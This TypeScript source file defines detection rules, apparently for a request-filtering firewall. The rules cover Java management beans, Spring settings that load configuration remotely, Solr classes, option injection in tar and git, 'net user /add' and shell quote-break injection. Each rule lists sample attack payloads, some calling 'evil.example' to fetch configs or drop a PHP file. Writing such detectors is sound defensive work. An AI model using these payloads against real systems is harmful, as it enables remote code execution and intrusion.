import { pattern, type Rule, type Span } from '../rule/rule.ts'
import { CHAR } from '../value/features.ts'
import type { Reading } from '../value/reading.ts'
import { WORD } from '../value/words.ts'

/** Settings of Spring that make it load a document, a class or a statement from where they point. */
const LOADING =
  /^(?:spring\.(?:cloud\.bootstrap\.location|main\.sources|datasource\.hikari\.connection-?test-?query)|eureka\.client\.serviceurl\.defaultzone)$/
/** The same, and some that documents of deployments have as well. */
const LOADING_NAME =
  /^(?:--)?(?:spring\.(?:cloud\.bootstrap\.location|main\.sources|datasource\.(?:hikari\.connection-?test-?query|url)|config\.(?:import|location|additional-location))|eureka\.client\.serviceurl\.defaultzone|logging\.config|management\.endpoints\.web\.exposure\.include)$/

/** A setting by its name, where a request may not set any. */
function findLoadingSetting(reading: Reading): Span | undefined {
  if (!reading.fromStart) return undefined
  const { lower } = reading
  // Of a document, a name stands under what it is part of, and may be any text.
  const isFound =
    reading.place === 'name'
      ? LOADING_NAME.test(lower) && reading.name === lower
      : LOADING.test(lower) && /^(?:name|key|property)$/.test(reading.name)
  return isFound ? { start: 0, end: lower.length } : undefined
}

/** A query that has the server start a program and talk to it. */
function findStartedTransport(reading: Reading): Span | undefined {
  if (reading.lower !== 'stdio' || reading.place !== 'query') return undefined
  return reading.name === 'transporttype' ? { start: 0, end: 5 } : undefined
}

/** What interfaces of management take from administrators, and no client of an application sends. */
export const managementRules: readonly Rule[] = [
  // Beans of a virtual machine that write files, load configurations or run code.
  pattern(
    'java/managed-bean',
    /type=(?:diagnosticcommand|mbeanfactory|flightrecorder|hotspotdiagnostic|userdatabase|maindeployer)|\bjdk\.management\.jfr:|jmxconfigurator\b|apache\.logging\.log4j2:type|jboss\.system:service=maindeployer/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.equals,
      words: WORD.java,
      attacks: [
        'com.sun.management:type=DiagnosticCommand',
        'jdk.management.jfr:type=FlightRecorder',
        'org.apache.logging.log4j2:type=51f',
      ],
      benign: ['java.lang:type=Memory', 'com.sun.management', 'jdk.management.agent'],
    },
  ),
  pattern(
    'java/loaded-setting',
    /(?:spring\.(?:config\.(?:import|location|additional-location)|cloud\.bootstrap\.location|main\.sources)|logging\.config)["']?\s{0,4}[=:]\s{0,4}["']?(?:optional:)?(?:jar:)?(?:https?|ftp):/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.scheme,
      words: WORD.probe,
      attacks: [
        'timestamp --spring.config.import=http://evil.example/a.yaml',
        '--spring.cloud.bootstrap.location=http://evil.example/x.yml',
      ],
      benign: [
        'spring.config.import=optional:configserver:http://config:8888',
        'logging.config=classpath:logback.xml',
      ],
    },
  ),
  {
    id: 'java/setting-name',
    family: 'java',
    score: 5,
    quotable: false,
    atStart: true,
    chars: 0,
    words: WORD.probe,
    needs: [LOADING_NAME, LOADING],
    find: findLoadingSetting,
    // By where the name stands: the cases are in `test/management.test.ts`.
    attacks: [],
    benign: ['spring.cloud.bootstrap.location', 'logging.level.root'],
  },
  // A search server's own classes that run a program, or a template from the request.
  pattern('java/solr-class', /\bsolr\.(?:runexecutablelistener|velocityresponsewriter)\b/, {
    score: 5,
    quotable: true,
    words: WORD.probe,
    attacks: ['solr.RunExecutableListener', 'solr.VelocityResponseWriter'],
    benign: ['solr.SearchHandler', 'solr'],
  }),
  // Streams that a search server opens itself.
  pattern('ssrf/stream-name', /^stream\.(?:url|file)$/, {
    score: 5,
    atStart: true,
    places: ['name'],
    words: WORD.script | WORD.host,
    attacks: ['stream.url'],
    benign: ['stream', 'stream.title', 'upstream.url'],
  }),
  {
    id: 'rce/started-transport',
    family: 'rce',
    score: 5,
    quotable: false,
    chars: 0,
    words: WORD.process,
    places: ['query'],
    needs: [/stdio/],
    find: findStartedTransport,
    // By the name of the parameter: the cases are in `test/management.test.ts`.
    attacks: [],
    benign: ['stdio'],
  },
  pattern(
    'rce/account',
    /\bnet1?\s{1,4}(?:user|localgroup)\s{1,4}["\w$.-]{1,40}\s{1,4}[^\s"]{1,60}\s{1,4}\/add\b/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.slash,
      words: WORD.shell,
      attacks: ['/c calc & net user a b /add', 'net localgroup administrators x /add'],
      benign: ['net user experience / add', 'net user'],
    },
  ),
  // Options behind the first one, or behind the address that a program fetches.
  pattern(
    'rce/option-inside',
    /\s--(?:checkpoint-action|to-command|use-compress-program|upload-pack|receive-pack|rsh-command)(?:=\S| ["'./~$`]| (?:ba|da|z|k)?sh\b| (?:touch|exec|id|curl|wget|nc|cat)\b)|^\s{0,2}https?:\/\/[^\s]{1,200}\s{1,4}-{1,2}(?:o|output|output-document|k|config|t|upload-file|post-file)[\s=]{1,4}@?[/~]/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.dashes | CHAR.scheme,
      attacks: [
        '--checkpoint=1 --checkpoint-action=exec=sh x.sh',
        'http://evil.example/a -o /var/www/html/a.php',
      ],
      benign: [
        'https://a.example/ -- /a',
        'https://a.example -o a.html',
        'tar --checkpoint=1',
        'Only one --to-command option allowed',
      ],
    },
  ),
  // Where the key tool of Java takes its classes from, among what it is called with.
  pattern('rce/key-tool', /\s-providerpath\s{1,4}["']?(?:[a-z]:)?\\/, {
    score: 5,
    quotable: true,
    chars: CHAR.backslash,
    attacks: ['1024 -providerclass Si -providerpath "C:\\x"', '1024 -providerpath \\\\evil\\x'],
    benign: ['a -providerpath or not', '-providerpath /tmp/x'],
  }),
  // What it was called with, into a shell.
  pattern('rce/arguments-into-shell', /\$[@*]\s{0,2}\|\s{0,2}(?:ba|da|z|k)?sh\b/, {
    score: 5,
    quotable: true,
    chars: CHAR.pipe,
    words: WORD.shell,
    attacks: ['-c $@|sh . echo id;', '$* | bash'],
    benign: ['echo $@ | sort', '$|sh'],
  }),
  // The quote of a command line ended, a command, and the rest of the line taken out or quoted again.
  pattern(
    'rce/quote-break',
    /^[^"'\n]{0,60}(["'])\s{0,2}(?:;|\|{1,2}|&{1,2})\s{0,2}(?:touch|id|ls|cat|curl|wget|ping|nc|bash|sh|sleep|whoami|echo|rm|cp|chmod|python3?|perl|php|ruby|nslookup|uname|telnetd|reboot|mkdir|printf|calc)\b[^"'\n]{0,120}?(?:#\s{0,2}$|[;|&]\s{0,2}\1|[;|&]{1,2}\s{0,2}#)/,
    {
      score: 5,
      quotable: true,
      atStart: true,
      chars: CHAR.semicolon | CHAR.pipe | CHAR.ampersand,
      words: WORD.shell,
      attacks: ['"; touch test #', "x';touch a;'", '"&&id&&"', '"|cat x|"'],
      benign: ['"cat"; "dog"', "'a'; id of it", 'he said "no"; echo that'],
    },
  ),
]
